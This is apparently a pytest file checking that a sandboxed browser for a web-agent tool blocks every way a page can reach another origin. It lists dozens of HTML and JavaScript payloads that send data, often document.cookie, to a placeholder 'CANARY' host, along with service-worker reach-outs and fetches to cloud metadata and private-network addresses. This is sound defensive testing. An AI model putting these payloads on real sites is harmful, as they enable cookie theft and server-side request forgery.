"""A page of the test that reaches for another origin, in every way a page has: the canary there hears nothing."""

from __future__ import annotations

from contextlib import suppress
from typing import TYPE_CHECKING

import pytest
from playwright.async_api import Error

from tests.conftest import Answer

if TYPE_CHECKING:
    from canary import Canary

    from pytest_webagent.browser.session import BrowserSession
    from pytest_webagent.policy.connections import Connections
    from tests.conftest import Site


async def _anywhere(self: Connections, host: str, port: int) -> list[str]:
    return await self.anywhere(host, port)


held_by_the_addresses = pytest.mark.held_by(
    "pytest_webagent.policy.connections.Connections.addresses", _anywhere
)


def _scripted(code: str) -> str:
    return f"<h1>Shop</h1><script>{code}</script>"


_DOCUMENT = "'<scr' + 'ipt>fetch(\"CANARY/x\", {mode: \"no-cors\"})</scr' + 'ipt>'"

WAYS = {
    "fetch": _scripted("fetch('CANARY/x?' + document.cookie, {mode: 'no-cors'})"),
    "fetch_with_preflight": _scripted("fetch('CANARY/x', {method: 'PUT', headers: {'x-data': 'secret'}})"),
    "fetch_kept_alive": _scripted(
        "fetch('CANARY/x', {method: 'POST', keepalive: true, body: 'x', mode: 'no-cors'})"
    ),
    "xhr": _scripted("const x = new XMLHttpRequest(); x.open('GET', 'CANARY/x'); x.send()"),
    "xhr_that_waits": _scripted("const x = new XMLHttpRequest(); x.open('GET', 'CANARY/x', false); x.send()"),
    "image": "<img src=CANARY/x.png>",
    "image_set": "<img srcset='CANARY/x.png 1x'>",
    "image_of_svg": "<svg><image href=CANARY/x.png /></svg>",
    "image_of_a_script": _scripted("new Image().src = 'CANARY/x?' + document.cookie"),
    "image_button": "<input type=image src=CANARY/x.png>",
    "style_sheet": "<link rel=stylesheet href=CANARY/x.css>",
    "style_import": "<style>@import url(CANARY/x.css);</style>",
    "style_url": "<div style='background: url(CANARY/x.png)'>Shop</div>",
    "font": "<style>@font-face { font-family: F; src: url(CANARY/f.woff2) } p { font-family: F }</style><p>Shop</p>",
    "video": "<video src=CANARY/x.mp4 autoplay muted></video>",
    "audio": "<audio src=CANARY/x.mp3 preload=auto></audio>",
    "poster": "<video poster=CANARY/x.png></video>",
    "script": "<script src=CANARY/x.js></script>",
    "module": "<script type=module>import 'CANARY/x.js'</script>",
    "frame": "<iframe src=CANARY/x></iframe>",
    "object": "<object data=CANARY/x type=text/html></object>",
    "embed": "<embed src=CANARY/x>",
    "refresh": "<meta http-equiv=refresh content='0; url=CANARY/x'>",
    "navigation": _scripted("location = 'CANARY/x?' + document.cookie"),
    "form_get": "<form action=CANARY/x><input name=a value=b></form><script>document.forms[0].submit()</script>",
    "form_post": "<form method=post action=CANARY/x><input name=a value=b></form>"
    "<script>document.forms[0].submit()</script>",
    "form_post_redirected": "<form method=post action=/kept><input name=a value=b></form>"
    "<script>document.forms[0].submit()</script>",
    "navigation_redirected": _scripted("location = '/away'"),
    "image_redirected": "<img src=/away>",
    "fetch_redirected": _scripted("fetch('/away', {mode: 'no-cors'})"),
    "script_redirected": "<script src=/away></script>",
    "beacon": _scripted("navigator.sendBeacon('CANARY/x', document.cookie)"),
    "prefetch": "<link rel=prefetch href=CANARY/x>",
    "preload": "<link rel=preload as=image href=CANARY/x.png>",
    "module_preload": "<link rel=modulepreload href=CANARY/x.js>",
    "socket": _scripted("new WebSocket('CANARY/x'.replace('http', 'ws'))"),
    "event_source": _scripted("new EventSource('CANARY/x')"),
    "worker": _scripted(
        'new Worker(URL.createObjectURL(new Blob([\'fetch("CANARY/x", {mode: "no-cors"})\'])))'
    ),
    "worker_socket": _scripted(
        'new Worker(URL.createObjectURL(new Blob([\'new WebSocket("CANARY/x".replace("http", "ws"))\'])))'
    ),
    "worker_script": _scripted(
        "new Worker(URL.createObjectURL(new Blob(['importScripts(\"CANARY/x.js\")'])))"
    ),
    "shared_worker": _scripted("new SharedWorker('/worker.js')"),
    "popup": _scripted("open('CANARY/x')"),
    "popup_without_opener": _scripted("open('CANARY/x', '_blank', 'noopener')"),
    "popup_of_a_link": "<a target=_blank href=CANARY/x>Shop</a><script>document.links[0].click()</script>",
    "download": "<a download href=CANARY/x>Shop</a><script>document.links[0].click()</script>",
    "blob_document": _scripted(
        "const f = document.createElement('iframe');"
        f"f.src = URL.createObjectURL(new Blob([{_DOCUMENT}], {{type: 'text/html'}})); document.body.append(f)"
    ),
    "data_document": _scripted(
        f"const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent({_DOCUMENT});"
        "document.body.append(f)"
    ),
    "srcdoc_document": _scripted(
        f"const f = document.createElement('iframe'); f.srcdoc = {_DOCUMENT}; document.body.append(f)"
    ),
    "blank_document": _scripted(
        "const f = document.createElement('iframe'); document.body.append(f);"
        "f.contentWindow.fetch('CANARY/x', {mode: 'no-cors'})"
    ),
    "blank_popup": _scripted(f"open('about:blank').document.write({_DOCUMENT})"),
    "sandboxed_document": "<iframe sandbox=allow-scripts srcdoc='<img src=CANARY/x.png>'></iframe>",
}
"""Pages that reach for the canary. Links with rel=preconnect are not heeded by headless browsers."""


@held_by_the_addresses
@pytest.mark.parametrize("origin", ["http://localhost:PORT", "http://127.0.0.1:PORT"], ids=["name", "port"])
@pytest.mark.parametrize("way", WAYS)
async def test_a_page_does_not_reach_another_origin(
    contained: BrowserSession, site: Site, canary: Canary, way: str, origin: str
) -> None:
    where = origin.replace("PORT", str(canary.port))
    site.redirect("/away", f"{where}/x")
    site.answer("/kept", Answer(status=307, headers={"location": f"{where}/x"}))
    site.answer(
        "/worker.js", Answer(f"fetch('{where}/x', {{mode: 'no-cors'}})", content_type="text/javascript")
    )
    page = site.page("/", WAYS[way].replace("CANARY", where), headers={"set-cookie": "session=secret"})
    await contained.page.goto(page, wait_until="commit")
    await canary.attacked(contained)
    assert canary.heard == []
    assert canary.was_refused(contained)


@held_by_the_addresses
@pytest.mark.parametrize("header", ["content-security-policy", "content-security-policy-report-only"])
async def test_a_page_does_not_report_to_another_origin(
    contained: BrowserSession, site: Site, canary: Canary, header: str
) -> None:
    headers = {header: f"img-src 'none'; report-uri {canary.url}/x"}
    await contained.page.goto(site.page("/", "<img src=/secret.png>", headers=headers))
    await canary.attacked(contained)
    assert canary.heard == []


_REACH = "fetch('CANARY/x', {mode: 'no-cors'})"
_WRITES = "navigator.serviceWorker.ready.then(each => each.active.postMessage('x'));"
_FETCHES = "navigator.serviceWorker.oncontrollerchange = () => fetch('/secret');"
_CLAIMS = "self.onactivate = event => event.waitUntil(clients.claim());"


@held_by_the_addresses
@pytest.mark.parametrize(
    ("page", "worker"),
    [
        ("", f"self.oninstall = () => {_REACH}"),
        ("", f"self.onactivate = () => {_REACH}"),
        (_WRITES, f"self.onmessage = () => {_REACH}"),
        (_FETCHES, f"{_CLAIMS} self.onfetch = event => event.respondWith({_REACH})"),
    ],
    ids=["installed", "activated", "written to", "answers for the page"],
)
async def test_nor_does_a_service_worker(
    contained: BrowserSession, site: Site, canary: Canary, page: str, worker: str
) -> None:
    code = worker.replace("CANARY", canary.url)
    site.answer("/sw.js", Answer(code, content_type="text/javascript"))
    await contained.page.goto(site.page("/", _scripted(f"{page} navigator.serviceWorker.register('/sw.js')")))
    await canary.attacked(contained)
    assert canary.heard == []


@held_by_the_addresses
@pytest.mark.parametrize(
    "where", ["http://localhost:PORT/x", "http://127.0.0.1:PORT/x", "https://127.0.0.1:PORT/x"]
)
async def test_nor_do_requests_of_the_context(contained: BrowserSession, canary: Canary, where: str) -> None:
    with suppress(Error):
        await contained.context.request.get(where.replace("PORT", str(canary.port)))
    await canary.attacked(contained)
    assert canary.heard == []


@held_by_the_addresses
async def test_nor_does_the_page_that_is_read_beside_the_tabs(
    contained: BrowserSession, site: Site, canary: Canary
) -> None:
    async def unchecked(_: str) -> None: ...

    url = site.page("/", f"<h1>Shop</h1><img src={canary.url}/x.png>")
    async with contained.aside(unchecked, 10) as aside:
        await aside.open(url)
        await canary.attacked(contained)
    assert canary.heard == []


@held_by_the_addresses
@pytest.mark.parametrize(
    "address",
    [
        "169.254.169.254",
        "[fd00:ec2::254]",
        "metadata.google.internal",
        "100.100.100.200",
        "192.168.0.1",
        "10.0.0.1",
        "0.0.0.0",
        "[::1]",
    ],
)
async def test_a_page_does_not_reach_metadata_nor_the_network_it_is_in(
    contained: BrowserSession, site: Site, address: str
) -> None:
    await contained.page.goto(site.page("/", "<h1>Shop</h1>"))
    fetch = f"fetch('http://{address}/latest', {{mode: 'no-cors', signal: AbortSignal.timeout(2000)}})"
    assert await contained.page.evaluate(f"{fetch}.then(() => 'came', () => 'refused')") == "refused"
    assert contained.egress is not None
    assert list(contained.egress.denied()) == [f"http://{address}"]


@pytest.mark.held_by("pytest_webagent.browser.pool.BYPASS", "127.0.0.1")
@pytest.mark.parametrize("way", ["fetch", "socket", "popup"])
async def test_what_is_on_this_machine_is_not_reached_beside_the_proxy(
    contained: BrowserSession, site: Site, canary: Canary, way: str
) -> None:
    where = f"http://127.0.0.1:{canary.port}"
    await contained.page.goto(site.page("/", WAYS[way].replace("CANARY", where)), wait_until="commit")
    await canary.attacked(contained)
    assert canary.heard == []
